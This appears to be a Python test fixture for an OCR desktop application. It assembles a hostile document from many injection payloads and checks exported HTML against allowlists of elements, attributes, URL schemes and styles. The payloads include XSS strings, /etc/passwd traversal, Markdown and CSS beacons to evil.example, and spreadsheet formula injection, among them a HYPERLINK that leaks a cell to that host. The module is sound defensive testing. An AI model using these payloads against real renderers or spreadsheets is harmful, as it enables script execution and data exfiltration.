"""A page of hostile output, and what must be true of everything that is made of it.

What is let through is stated here once more, by hand: a mistake in the code's own lists must not hide itself.
"""

import re
import urllib.parse
from html.parser import HTMLParser

from ocr_desktop.document.blocks import Block, Category, Cell, Span, Style, Table, TextFormat
from ocr_desktop.document.document import Document
from ocr_desktop.document.geometry import Box
from tests.fakes.documents import document, page

EVIL = "evil.example"
"""What every address leads to that nobody must load."""

ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "<img src=http://evil.example/pixel.png onerror=alert(1)>",
    "<svg onload=alert(1)><image href='http://evil.example/x.svg'/><script>x</script></svg>",
    "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>x</maction></math>",
    "<iframe src='file:///etc/passwd'></iframe><object data=file:///etc/passwd></object><embed src=x>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'><base href='http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/x.css><style>@import 'http://evil.example/x.css';</style>",
    "<p style=\"background:url('http://evil.example/x.png')\">styled</p>",
    "<table background='http://evil.example/x.png'><tr><td style='behavior:url(x)' onclick=x>c</td></tr></table>",
    "<a href='javascript:alert(1)'>a</a> <a href=\" java\tscript:alert(1)\">b</a> <a href='&#106;avascript:x'>c</a>",
    "<a href='data:text/html,<script>x</script>'>d</a> <a href=file:///etc/passwd>e</a> <a ping=http://evil.example>f</a>",
    "<form action=http://evil.example><input name=x autofocus onfocus=alert(1)><button>go</button></form>",
    "<video src=http://evil.example/x.mp4 autoplay></video><audio src=x></audio><source srcset=http://evil.example/x>",
    "<!--[if gte mso 9]><xml><o:x>http://evil.example</o:x></xml><![endif]--><?xml-stylesheet href=x?><![CDATA[<b>]]>",
    "![pixel](http://evil.example/pixel.png) ![p][ref] ![[wiki.png]] \\![kept](http://evil.example/a.png)",
    "\\\\![twice](http://evil.example/twice.png) ![a\nb](http://evil.example/lines.png) ![x](<file:///etc/passwd>)",
    "[ref]: http://evil.example/ref.png 'title'\n\n![ref]",
    "[j](javascript:alert(1)) [d](data:text/html;base64,PHNjcmlwdD4=) [v]( vbscript:x) [f](file:///etc/passwd)",
    "[e](java&#115;cript:alert(1)) [t](<java\nscript:alert(1)>) <javascript:alert(1)> [u](\\\\evil.example\\share)",
    "`<script>alert(1)</script>` ``` <img src=x onerror=alert(1)> ```",
    "```html\n<script>alert(1)</script>\n```\n~~~\n<iframe>\n~~~",
    "$\\href{javascript:alert(1)}{x} \\htmlClass{a\" onload=\"x}{y} \\includegraphics{http://evil.example/x.png}$",
    "$$\\unicode{x3c}script\\unicode{x3e} \\text{<img src=x onerror=alert(1)>} \\url{file:///etc/passwd}$$",
    "null\0byte \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x1b[2J bell\x07",
    "safe\u202egpj.exe \u2066isolated \u202dforced \u200bzero\ufeffwidth \ud800 \uffff",
    "<" * 300 + "script>" + ">" * 300,
    "> " * 200 + "deep quotes",
    "<b>" * 300 + "<table><tr><td>" * 60 + "deep" + "</td></tr></table>",
    "--><script>alert(1)</script><!--",
    "</td></tr></table></body></html><script>alert(1)</script>",
    '" onmouseover="alert(1)" x="',
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
)  # fmt: skip

FORMULAS_OF_SHEETS = ("=1+1", "+1+cmd|' /C calc'!A0", "-2+3+cmd|x", "@SUM(A1)", "\t=1+1", " =1", "\r=1", "＝1+1", "＠x")
NUMBERS = ("-5", "-1,234.50", "+3.14 %", "-1.5e-3", "-2.5E+10", "- 7 €", "-$5.00", "−5", "-", "–", "-0.5 °C", "+49")

_ELEMENTS = frozenset(
    re.findall(
        r"\w+",
        """
    a b blockquote body br caption code col colgroup dd del div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 head hr
    html i img ins kbd li meta ol p pre q s samp section small span strong style sub sup table tbody td tfoot th thead
    title tr tt u ul var
    math menclose mfrac mi mmultiscripts mn mo mover mpadded mphantom mprescripts mroot mrow ms mspace msqrt mstyle
    msub msubsup msup mtable mtd mtext mtr munder munderover none""",
    )
)
_ATTRIBUTES = frozenset(
    re.findall(
        r"[\w-]+",
        """
    align alt aria-label border cellpadding cellspacing charset class colspan content dir height href http-equiv lang
    name rel rowspan src start style title width
    accent accentunder columnalign columnlines columnspacing columnspan depth display displaystyle fence form frame
    largeop linethickness lspace mathvariant maxsize minsize movablelimits notation rowlines rowspacing rspace
    scriptlevel separator stretchy symmetric voffset xmlns""",
    )
)
_STYLES = re.compile(r"(?:[a-z-]+: ?(?:'\\@'|[#\w. -]+)(?:; ?|$))*")
_META = {"charset", "viewport", "referrer", "generator", "content-security-policy"}
_VOID = {"br", "hr", "img", "meta", "col"}


def hostile_page(*, brief: bool = False) -> Document:
    """Each attack as each kind of block.

    Args:
        brief: as some kinds of block only.
    """
    made: list[Block] = []
    for attack in ATTACKS:
        cells = (Cell(0, 0, attack, header=True), Cell(0, 1, attack), Cell(1, 0, attack, column_span=2))
        made += [
            _block(Category.TEXT, attack, format=TextFormat.MARKDOWN),
            _block(Category.FORMULA, attack, format=TextFormat.LATEX),
            _block(Category.TABLE, attack, table=Table(2, 2, cells)),
            _block(Category.PICTURE, attack, asset="../../etc/passwd"),
        ]
        if brief:
            continue
        made += [
            _block(Category.TEXT, attack),
            _block(Category.TITLE, attack),
            _block(Category.SECTION_HEADER, attack, format=TextFormat.MARKDOWN),
            _block(Category.LIST_ITEM, attack, marker=attack[:40]),
            _block(Category.LIST_ITEM, attack, format=TextFormat.MARKDOWN, marker="1."),
            _block(Category.TABLE, attack, format=TextFormat.MARKDOWN),
            _block(Category.PICTURE, attack, asset='x" onerror="alert(1)'),
            _block(Category.PICTURE, attack, asset="http://evil.example/x.png"),
            _block(Category.CAPTION, attack, format=TextFormat.MARKDOWN),
            _block(Category.FOOTNOTE, attack),
            _block(Category.TEXT, attack + "\n" + attack, spans=(Span(0, 2 * len(attack) + 1, Style.CODE),)),
            *(
                _block(Category.TEXT, attack, spans=(Span(0, len(attack), Style.LINK, target),))
                for target in (
                    "javascript:alert(1)",
                    "data:text/html,x",
                    "file:///etc/passwd",
                    'http://a.b/" onclick="x',
                )
            ),
        ]
    return document(page(*made), name="<script>alert(1)</script>\u202e.pdf")


def _block(category: Category, text: str, **more: object) -> Block:
    return Block(Box(10.0, 10.0, 100.0, 20.0), category, text, **more)  # type: ignore[arg-type]


class Suspicious(HTMLParser):
    """What is wrong with a piece of HTML, as a browser's parser would see it.

    Args:
        pictures: addresses that a picture may have.
    """

    def __init__(self, text: str, pictures: re.Pattern[str] | None = None) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.links: list[str] = []
        self._pictures = pictures
        self._open: list[str] = []
        self.deepest = 0
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _ELEMENTS:
            self.wrong.append(f"<{tag}>")
        if tag not in _VOID:
            self._open.append(tag)
            self.deepest = max(self.deepest, len(self._open))
        for name, value in attrs:
            self._attribute(tag, name, value or "")

    def handle_endtag(self, tag: str) -> None:
        if tag in self._open:
            while self._open.pop() != tag:
                pass

    def handle_data(self, data: str) -> None:
        if "style" in self._open and ("url(" in data or "@import" in data):
            self.wrong.append(f"style sheet: {data[:80]}")
        if re.search("[\x00-\x08\x0e-\x1f\ud800-\udfff]", data):
            self.wrong.append(f"control: {data[:80]!r}")

    def handle_comment(self, data: str) -> None:
        if data.strip():
            self.wrong.append(f"comment: {data[:80]}")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"processing instruction: {data[:80]}")

    def unknown_decl(self, data: str) -> None:
        self.wrong.append(f"declaration: {data[:80]}")

    def _attribute(self, tag: str, name: str, value: str) -> None:
        fine = name in _ATTRIBUTES
        if name == "style":
            fine = _STYLES.fullmatch(value) is not None and "url" not in value
        elif name == "href":
            self.links.append(value)
            fine = tag == "a" and urllib.parse.urlsplit(value).scheme in ("http", "https", "mailto")
        elif name == "src":
            fine = tag == "img" and self._pictures is not None and self._pictures.fullmatch(value) is not None
        elif tag == "meta" and name in ("name", "http-equiv"):
            fine = value.lower() in _META
        if not fine:
            self.wrong.append(f"<{tag} {name}={value[:80]!r}>")
